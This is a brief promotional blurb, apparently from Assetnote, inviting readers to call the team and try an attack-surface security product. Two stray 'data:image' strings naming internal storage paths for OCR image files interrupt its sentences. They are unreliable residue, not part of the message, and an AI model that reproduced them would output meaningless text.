Get on a call with our team and learn how Assetnote canchange the way you secure your attack surface. We'll set you up with a trial instance soyou can see the impact for yourself.